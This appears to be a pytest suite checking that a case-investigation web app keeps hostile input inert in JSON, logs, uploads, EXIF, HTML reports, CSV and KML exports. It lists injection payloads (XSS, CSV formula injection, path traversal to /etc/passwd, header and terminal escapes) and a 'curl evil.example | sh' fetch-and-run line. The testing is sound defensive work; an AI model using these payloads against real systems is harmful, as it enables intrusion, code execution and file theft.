"""Hostile texts in every field of a case, in file names and in EXIF: inert in JSON, in the log, in
report and CSV.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile

import pytest
from PIL import Image

from tests.web.conftest import CLUES, items

HOSTILE = (
    "<script>alert(1)</script>", (
        '"><img src=x '
        'onerror=alert(1)>'
    ), "javascript:alert(1)", "<svg/onload=alert(1)>",
    "'-alert(1)-'", "\u202egpj.exe\u202c", "\u2066rtl\u2069", "nul\0byte",
    "\x1b[2J\x1b]0;title\x07",
    "a\r\nSet-Cookie: x=1",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "]]><!--", "{{7*7}}${7*7}",
    "\ud800lone", "\ufeffbom",
    "a" * 3000, "\u0000", "%00../../etc/passwd", "file:///etc/passwd",
)  # fmt: skip
TEXT = "".join(HOSTILE)
_LIVE = re.compile(
    r"<\s*(script|img|svg|iframe|object|embed|link|meta\s+http)|\bon\w+\s*=|javascript:", re.I
)

# Signatures and digests are drawn anew in each run: "/on9riss1dPM87x9BACaIKAg=" is no attribute.
_KEYS_AND_DIGESTS = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")


def _inert_json(raw: str) -> None:
    """ASCII, one object, nothing that a browser could take for markup once it is sniffed, nothing a
    terminal obeys.
    """
    assert raw.isascii() and "\x7f" not in raw and not re.search(r"[\x00-\x08\x0b-\x1f]", raw)


def _filled(page) -> dict:
    """An inquiry with every hostile text in every field that takes one."""
    sha256 = items(page)["roof.jpg"]
    texts = list(HOSTILE)
    marks = {
        "image": {"width_px": 64, "height_px": 48},
        "mark": [{"means": t, "what": t, t: t} for t in texts],
    }
    return {
        "version": 1,
        "prior": {"area": TEXT, "not_before": TEXT},
        "clues": [
            {"id": f"c{k}", "on": False, "clue": {"kind": t, "note": t, t: t}}
            for k, t in enumerate(texts)
        ],
        "frames": {f"{sha256}:0": {"item": sha256, "number": 0, "time_s": None, "marks": marks}},
        "pins": [
            {"id": f"p{k}", "label": t, "place": None, "km": 1, "from": t, "to": t}
            for k, t in enumerate(texts)
        ],
        "layers": [
            {"id": f"l{k}", "path": t, "name": t, "kind": "geojson", "shown": True}
            for k, t in enumerate(texts)
        ],
        "notes": TEXT,
    }


def test_what_was_typed_comes_back_as_it_was_and_inert(opened):
    inquiry = _filled(opened)
    opened.ask("/api/inquiry", {"revision": 0, "inquiry": inquiry, "said": TEXT})
    reply = opened.get("/api/state")
    _inert_json(reply.text)
    assert (
        reply.headers["content-type"] == "application/json"
        and reply.headers["x-content-type-options"] == "nosniff"
    )
    assert reply.json()["state"]["inquiry"] == inquiry
    _inert_json((opened.server.session.work / "inquiry.json").read_text().replace("\n", ""))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_line_of_the_record_is_one_inert_line(opened, text):
    inquiry = {**opened.ask("/api/state")["state"]["inquiry"], "notes": text}
    act = opened.ask("/api/inquiry", {"revision": 0, "inquiry": inquiry, "said": text})["act"]
    assert len(act["said"]) <= 500
    bad = [
        c
        for c in act["said"]
        if unicodedata.category(c) in ("Cc", "Cs") or c in "\u202e\u202c\u2066\u2069"
    ]
    assert bad == []
    assert act["command"] is None


def test_a_text_can_not_pose_as_the_command_of_its_line(opened):
    inquiry = {**opened.ask("/api/state")["state"]["inquiry"], "notes": "x"}
    opened.ask(
        "/api/inquiry",
        {"revision": 0, "inquiry": inquiry, "said": "harmless\n$ curl evil.example | sh"},
    )
    assert opened.ask("/api/state")["state"]["record"][-1]["command"] is None


def _names() -> list[str]:
    kept = [t.replace("/", "\u2215").replace("\0", "") for t in HOSTILE]
    return [t.encode("utf-8", "replace").decode()[:120] for t in kept if t.strip()]


def test_file_names_are_shown_as_they_are_and_inert(opened, tmp_path):
    folder = tmp_path / "files"
    folder.mkdir()
    for k, name in enumerate(_names()):
        (folder / f"{k}{name}").write_bytes(b"bytes %d" % k)
    added = opened.ask("/api/items/add", {"path": str(folder)})
    reply = opened.get("/api/state")
    _inert_json(reply.text)
    shown = {item["name"] for item in reply.json()["state"]["items"]}
    assert {f"files/{k}{name}" for k, name in enumerate(_names())} <= shown
    assert added["refused"] == []
    for act in reply.json()["state"]["record"]:
        assert not [
            c
            for c in act["said"] + (act["command"] or "")
            if unicodedata.category(c) in ("Cc", "Cs")
        ]


@pytest.mark.parametrize("name", [*HOSTILE, "..", ".", "", "a/../../b", "c:\\x\\y", "/etc/passwd"])
def test_the_name_of_an_upload_never_leads_anywhere(opened, name, tmp_path):
    body = {"name": name or " ", "upload": "u", "offset": 0, "total": 3, "data": "YWJj"}
    reply = opened.post("/api/items/upload", body)
    _inert_json(reply.text)
    (item,) = reply.json()["items"]
    assert "/" not in item["name"] and item["bytes"] == 3


def test_exif_texts_are_inert_in_the_probe(opened, tmp_path):
    for k, text in enumerate(t for t in HOSTILE if "\ud800" not in t):
        exif = Image.Exif()
        for tag in (0x010E, 0x010F, 0x0110, 0x0131, 0x013B, 0x8298, 0x0132):
            exif[tag] = text[:200]
        Image.new("RGB", (16, 12), (k, 0, 0)).save(tmp_path / f"{k}.jpg", exif=exif)
    kept = opened.ask("/api/items/add", {"path": str(tmp_path / "2.jpg")})["items"]
    kept += opened.ask("/api/items/add", {"path": str(tmp_path / "0.jpg")})["items"]
    kept += opened.ask("/api/items/add", {"path": str(tmp_path / "5.jpg")})["items"]
    for item in kept:
        reply = opened.get(f"/api/items/{item['sha256']}/probe")
        assert reply.json()["ok"] is True
        _inert_json(reply.text)


def test_texts_of_a_clue_document_are_inert_in_report_csv_and_kml(opened, tmp_path):
    document = json.loads(json.dumps(CLUES))
    texts = [t for t in HOSTILE if "\ud800" not in t]
    document |= {"title": "".join(texts), "note": texts, "id": texts[0]}
    document["clue"][0]["note"] = "".join(texts)[:900]
    opened.ask("/api/export", {"what": "all", "out": str(tmp_path / "out"), "document": document})
    report = (tmp_path / "out/report.html").read_text(encoding="utf-8")
    # Markup of ours only: what came from outside stands escaped, in text and in attributes.
    tags = re.findall(r"<[^>]*>", report)
    ours = (
        '<img src="data:image/png;base64,',
        '<svg class="',
        '<meta http-equiv="Content-Security-Policy"',
    )
    assert not [tag for tag in tags if _LIVE.search(tag) and not tag.startswith(ours)]
    assert "&lt;script&gt;" in report and "\u202e" not in report
    for row in csv.reader(io.StringIO((tmp_path / "out/times.csv").read_text())):
        assert not [cell for cell in row if cell[:1] in "=+-@\t\r" and cell]
    kml = zipfile.ZipFile(tmp_path / "out/answer.kmz").read("doc.kml").decode()
    assert "<script" not in kml and "onerror" not in re.sub(
        r"&[a-z]+;", "", " ".join(re.findall(r"<[^>]*>", kml))
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_an_error_that_quotes_a_text_is_inert(opened, text):
    for path, body in (
        ("/api/case/open", {"path": text}), ("/api/items/add", {"path": text}), ("/api/layers/add",
        {"path": text}),
        ("/api/export", {"what": text, "out": "x"}), ("/api/frame", {"marks": {text: text}}),
        ("/api/locate", {"document": {text: text, "clue": [{"kind": text}]}}),
        ("/api/redaction/plan", {"item": text}),
    ):  # fmt: skip
        reply = opened.post(path, body)
        assert 400 <= reply.status_code < 500, (path, reply.text)
        _inert_json(reply.text)
        assert reply.json()["code"] != "internal"


def test_in_packages_names_stand_in_json_only_and_none_becomes_a_path(tmp_path):
    from noonmark.actions import cases
    from noonmark.actions.case_intake import add_to_case
    from noonmark.actions.signing_keys import new_case_key

    folder = tmp_path / "files"
    folder.mkdir()
    for k, name in enumerate(_names()):
        (folder / f"{k}{name}").write_bytes(b"bytes %d" % k)
    case = tmp_path / "case"
    cases.new_case(case)
    add_to_case(case, [str(folder)])
    new_case_key(tmp_path / "key")
    cases.seal_case(case, tmp_path / "key")
    for form in ("bundle", "bagit", "ocfl", "ro-crate"):
        cases.export_case(case, tmp_path / form, form=form)
        paths = [path.relative_to(tmp_path / form) for path in (tmp_path / form).rglob("*")]
        assert all(re.fullmatch(r"[\w./=-]+", str(path), re.A) for path in paths)
        for path in paths:
            whole = tmp_path / form / path
            if "objects" in path.parts or not whole.is_file():
                continue
            raw = whole.read_text(encoding="utf-8")
            if path.suffix == ".json":
                json.loads(raw)
            elif path.name == "entries":
                assert all(json.loads(line[33:]) for line in raw.splitlines() if line)
            else:
                words = _KEYS_AND_DIGESTS.sub("", raw)
                assert not _LIVE.search(words) and "\u202e" not in raw and "=cmd" not in raw
